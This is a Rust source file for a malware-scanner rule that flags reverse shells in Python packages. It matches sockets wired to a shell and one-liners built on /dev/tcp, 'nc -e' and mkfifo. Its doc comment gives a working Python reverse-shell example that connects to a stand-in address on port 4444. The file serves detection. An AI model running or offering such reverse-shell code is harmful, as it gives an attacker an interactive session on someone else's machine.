//! PY106 `reverse-shell`: a socket wired to a shell.
//!
//! **What it detects.** A socket that connects out and whose file
//! descriptor is duplicated onto stdin/stdout (`os.dup2(s.fileno(), 0)`) or
//! handed to a shell (`subprocess.call(["/bin/sh","-i"], stdin=s.fileno())`,
//! `pty.spawn` after the dup); and shell one-liners run by the code:
//! `bash -i >& /dev/tcp/…`, `nc -e /bin/sh`, `mkfifo …| nc`.
//!
//! **Why it matters.** A reverse shell hands the attacker an interactive
//! session on the developer's machine or CI runner; it is among the most
//! common PyPI payloads (CWE-78, CWE-506).
//!
//! **Example.**
//! ```python
//! s = socket.socket(); s.connect(("198.51.100.4", 4444))
//! os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); pty.spawn("/bin/sh")
//! ```
//!
//! **False positives.** Terminal multiplexers and pty libraries duplicate
//! descriptors of pipes, not of sockets that connected out; the rule needs
//! the socket. Shell strings alone (documentation) are only medium.

use sluice_model::{Confidence, Finding, Severity};

use super::facts::{Facts, Labels, is_proc_sink_name};
use super::{at_call, at_line, by_role, command_of};

/// Rule name.
pub const NAME: &str = "reverse-shell";

fn shell_pattern(s: &str) -> bool {
    let l = s.to_ascii_lowercase();
    l.contains("/dev/tcp/")
        || l.contains("/dev/udp/")
        || ((l.contains("nc ") || l.contains("ncat ") || l.contains("netcat "))
            && (l.contains(" -e /bin/") || l.contains(" -e cmd") || l.contains("-c /bin/sh")))
        || (l.contains("mkfifo") && (l.contains("| nc ") || l.contains("|nc ")))
        || (l.contains("bash -i") && l.contains(">&"))
        // the classic one-liner handed to `python -c`: socket, dup2, a shell
        || (l.contains("socket")
            && l.contains("dup2")
            && (l.contains("/bin/sh") || l.contains("/bin/bash") || l.contains("pty.spawn")))
}

/// Check one file.
#[must_use]
pub fn check(f: &Facts<'_>) -> Vec<Finding> {
    let role = f.file.role;
    let connects = f.calls.iter().any(|c| {
        (c.recv.has(Labels::SOCKET) && matches!(c.method.as_str(), "connect" | "connect_ex"))
            || c.target == "socket.create_connection"
    });
    if connects {
        let wired = f.calls.iter().find(|c| {
            (c.target == "os.dup2" && c.first_labels.has(Labels::SOCKET))
                || (is_proc_sink_name(&c.target)
                    && c.kw_labels.iter().any(|(k, l)| {
                        matches!(k.as_str(), "stdin" | "stdout") && l.has(Labels::SOCKET)
                    }))
        });
        if let Some(w) = wired {
            let spawns = f
                .calls
                .iter()
                .any(|c| c.target == "pty.spawn" || is_proc_sink_name(&c.target));
            if spawns {
                return vec![
                    at_call(
                        f,
                        "PY106",
                        NAME,
                        Severity::Critical,
                        Confidence::High,
                        "connects a socket to a shell (reverse shell)",
                        w,
                    )
                    .evidence("socket connect → descriptor duplicated onto a process → shell"),
                ];
            }
        }
    }
    for c in f.calls.iter().filter(|c| is_proc_sink_name(&c.target)) {
        let cmd = command_of(c);
        if shell_pattern(&cmd) {
            return vec![
                at_call(
                    f,
                    "PY106",
                    NAME,
                    Severity::Critical,
                    Confidence::High,
                    "runs a reverse-shell command",
                    c,
                )
                .evidence(format!(
                    "command: {}",
                    cmd.chars().take(160).collect::<String>()
                )),
            ];
        }
    }
    if let Some(s) = f.strings.iter().find(|s| shell_pattern(&s.value)) {
        return vec![at_line(
            f,
            "PY106",
            NAME,
            by_role(role, Severity::High, Severity::Medium),
            Confidence::Medium,
            "contains a reverse-shell command line",
            s.line,
            s.col,
            &s.value,
        )];
    }
    Vec::new()
}
